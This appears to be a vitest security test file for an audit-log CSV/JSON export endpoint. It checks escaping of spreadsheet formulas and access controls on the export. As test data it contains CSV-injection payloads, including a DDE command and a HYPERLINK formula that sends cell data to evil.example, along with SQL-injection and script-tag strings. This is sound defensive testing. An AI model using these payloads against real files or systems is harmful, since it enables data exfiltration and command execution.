/** The audit log as a file: what is in it, and who takes it. */
import { expect } from 'vitest';
import type { Answer } from './answers';
import { type Attack, alike, attack, type Chapter, numbered } from './attack';
import { get, submit } from './requests';

const EXPORT = '/settings/audit-log/export';

/** Each begins as a spreadsheet's formula does, in its own or in full width. */
const FORMULAS: readonly (readonly [name: string, formula: string])[] = [
  ['a command (DDE)', "=cmd|'/c calc'!A0"],
  ['a link that sends the next cell away', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ['a plus', '+1+cmd'],
  ['a minus', '-1+cmd'],
  ['a function of an older spreadsheet', '@SUM(A1)'],
  ['an equals sign in full width', '＝1+1'],
  ['a quote that would end the cell', '","=1+1","'],
  ['a second cell behind a semicolon', 'x;=1+1'],
];

/** As a cell of the file, which a spreadsheet takes for text. */
const asText = (formula: string) =>
  `"${formula
    .replace(/^(?=[=+\-@＝])/, "'")
    .replaceAll(/;(?==)/g, ";'")
    .replaceAll('"', '""')}"`;

const FILE = {
  'cache-control': 'no-store',
  'x-content-type-options': 'nosniff',
  'access-control-allow-origin': null,
};
const file = (format: 'csv' | 'json', body: unknown, ...records: string[]): Answer => ({
  says: '200, a file in which it is text',
  status: 200,
  headers: {
    ...FILE,
    'content-type': format === 'csv' ? 'text/csv; charset=utf-8; header=present' : 'application/json',
    'content-disposition': expect.stringMatching(
      new RegExp(`^attachment; filename="audit-log-[\\d-]{10}\\.${format}"$`),
    ),
  },
  body,
  records: [...records, 'audit_log.exported'],
});

/** Records what is to be in the file, and takes it. */
const recorded =
  (name: string, format: string): Attack['sends'] =>
  async (scene) => {
    const fields = { id: crypto.randomUUID(), name, description: name };
    await scene.ask(submit('createApplicationAction', fields)(scene));
    return get(`${EXPORT}?format=${format}&action=application.created`, 'AUDITOR')(scene);
  };

const formulas = FORMULAS.map(
  ([name, formula], nth): Attack =>
    attack(
      numbered('CF', nth),
      name,
      recorded(formula, 'csv'),
      file('csv', expect.stringContaining(`,${asText(formula)},`), 'application.created'),
    ),
);

const taking: Attack[] = [
  attack('EX-01', 'signed out', get(`${EXPORT}?format=csv`), {
    says: '307 to sign in',
    status: 307,
    headers: { location: expect.stringMatching(/^\/login\?callbackUrl=/), 'content-disposition': null },
    body: '',
  }),
  ...alike(
    { says: '403, nothing recorded', status: 403, headers: { 'content-disposition': null }, body: '' },
    [
      [
        'EX-02',
        'by a link or a form on the page of another site',
        get(`${EXPORT}?format=csv`, 'OWNER', { 'Sec-Fetch-Site': 'cross-site' }),
      ],
      [
        'EX-03',
        'from another host below the same domain',
        get(`${EXPORT}?format=json`, 'OWNER', { 'Sec-Fetch-Site': 'same-site' }),
      ],
    ],
  ),
  ...alike({ says: '404', status: 404, headers: { 'content-disposition': null } }, [
    ['EX-04', 'in a format that there is not', get(`${EXPORT}?format=html`, 'OWNER')],
    ['EX-05', 'in the format `__proto__`', get(`${EXPORT}?format=__proto__`, 'OWNER')],
    ['EX-06', 'in two formats', get(`${EXPORT}?format=csv&format=html`, 'OWNER')],
  ]),
  attack(
    'EX-07',
    'SQL in its filters',
    get(
      `${EXPORT}?format=json&action=application.created&actor=${encodeURIComponent("' OR 1=1 --")}`,
      'AUDITOR',
    ),
    file('json', '[\n]\n'),
  ),
  attack(
    'EX-08',
    'script in a name, as JSON',
    recorded('<script>alert(1)</script>', 'json'),
    file('json', expect.stringContaining('"targetName":"<script>alert(1)</script>"'), 'application.created'),
  ),
];

export const auditExports: readonly Chapter[] = [
  { title: 'Formulas in the audit log as CSV', attacks: formulas },
  { title: 'Taking the audit log as a file', attacks: taking },
];
